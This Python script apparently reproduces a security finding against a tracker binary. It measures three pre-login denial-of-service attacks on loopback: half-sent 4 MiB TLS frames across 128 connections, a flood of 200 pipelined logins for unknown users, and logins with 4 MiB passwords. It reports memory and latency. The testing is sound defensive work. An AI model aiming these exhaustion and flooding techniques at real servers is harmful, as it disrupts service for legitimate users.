#!/usr/bin/env python3
"""Pre-login attacks on a tracker binary (issue 10, finding 2), measured; loopback only, bounded.

usage: preauth_attack.py TRACKER_BINARY

Starts the tracker in a temp dir on 127.0.0.1:0 and prints, one line each:
  half_frames   tracker RSS before/after 128 TLS connections from 127.0.0.2 that each send a
                4 MiB frame header and all but one byte of its body
  login_flood   a genuine login's time from 127.0.0.1 while 200 pipelined logins for unknown ids
                from 127.0.0.2 wait (one connection, as in the finding), and without the flood
  big_passwords tracker RSS (peak over the run) under 60 pipelined logins with 4 MiB passwords
"""
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time

MIB = 1024 * 1024


def benc(v):
    if isinstance(v, int):
        return b"i%de" % v
    if isinstance(v, str):
        v = v.encode()
    if isinstance(v, bytes):
        return b"%d:%s" % (len(v), v)
    return b"d" + b"".join(benc(k) + benc(v[k]) for k in sorted(v)) + b"e"


def frame(body):
    return struct.pack(">I", len(body)) + body


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return -1


class Conn:
    def __init__(self, port, source="127.0.0.1"):
        raw = socket.create_connection(("127.0.0.1", port), timeout=60, source_address=(source, 0))
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.minimum_version = ssl.TLSVersion.TLSv1_3
        self.s = ctx.wrap_socket(raw)
        self.buf = b""

    def send(self, data):
        try:
            self.s.sendall(data)
            return True
        except OSError:
            return False  # the tracker closed it

    def read_frame(self):
        while True:
            if len(self.buf) >= 4:
                n = struct.unpack(">I", self.buf[:4])[0]
                if len(self.buf) >= 4 + n:
                    body, self.buf = self.buf[4:4 + n], self.buf[4 + n:]
                    return body
            try:
                chunk = self.s.recv(65536)
            except OSError:
                return None
            if not chunk:
                return None
            self.buf += chunk

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


def login(seq, user, password):
    return frame(benc({"op": "login", "seq": seq, "user": user, "password": password,
                       "listen": "127.0.0.1:1"}))


def main():
    tracker = sys.argv[1]
    with tempfile.TemporaryDirectory() as tmp:
        info = os.path.join(tmp, "info.txt")
        with open(info, "w") as f:
            f.write("127.0.0.1:0\n")
        proc = subprocess.Popen([tracker, info, "1", "--db", os.path.join(tmp, "t.db")],
                                stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                stderr=subprocess.DEVNULL, cwd=tmp, text=True)
        try:
            line = proc.stdout.readline()
            port = int(re.search(r"127\.0\.0\.1:(\d+)", line).group(1))
            c = Conn(port)
            c.send(frame(benc({"op": "create_user", "seq": 1, "user": "alice", "password": "pw"})))
            assert b"2:oki1e" in c.read_frame()

            def genuine_login_s():
                g = Conn(port)
                start = time.monotonic()
                g.send(login(1, "alice", "pw"))
                reply = g.read_frame()
                took = time.monotonic() - start
                g.close()
                assert reply and b"2:oki1e" in reply, reply
                return took

            # 1. 128 half-sent 4 MiB frames.
            before = rss_kib(proc.pid)
            conns = []
            for _ in range(128):
                h = Conn(port, "127.0.0.2")
                body_but_one = b"x" * (4 * MIB - 1)
                if h.send(struct.pack(">I", 4 * MIB)):
                    h.send(body_but_one)
                conns.append(h)
            genuine_login_s()  # the tracker has read what came before
            after = rss_kib(proc.pid)
            print(f"half_frames: RSS {before / 1024:.0f} MB -> {after / 1024:.0f} MB "
                  f"(128 connections, 4 MiB header + all but one byte)")
            for h in conns:
                h.close()
            time.sleep(1)

            # 2. 200 pipelined logins for unknown ids, one connection from 127.0.0.2.
            quiet = genuine_login_s()
            flood = Conn(port, "127.0.0.2")
            flood.send(b"".join(login(i + 1, f"ghost{i}", "guess") for i in range(200)))
            first = flood.read_frame()  # the flood has been read
            took = genuine_login_s()
            refused = 1 if first and b"throttled" in first else 0
            for _ in range(199):
                r = flood.read_frame()
                if r is None:
                    break
                refused += b"throttled" in r
            flood.close()
            print(f"login_flood: genuine login {took:.2f} s under the flood ({quiet:.2f} s "
                  f"without); {refused} of 200 flood logins refused as throttled")
            time.sleep(1)

            # 3. 60 pipelined logins with 4 MiB passwords.
            before = rss_kib(proc.pid)
            peak = before
            big = Conn(port, "127.0.0.3")
            pw = "p" * (4 * MIB - 200)
            for i in range(60):
                if not big.send(login(i + 1, "alice", pw)):
                    break
                peak = max(peak, rss_kib(proc.pid))
            deadline = time.monotonic() + 30
            answered = 0
            while time.monotonic() < deadline and answered < 60:
                r = big.read_frame()
                peak = max(peak, rss_kib(proc.pid))
                if r is None:
                    break
                answered += 1
            big.close()
            print(f"big_passwords: RSS {before / 1024:.0f} MB -> peak {peak / 1024:.0f} MB "
                  f"(60 pipelined 4 MiB-password logins; {answered} answered before close)")
        finally:
            proc.stdin.write("quit\n")
            proc.stdin.flush()
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                proc.kill()


if __name__ == "__main__":
    main()
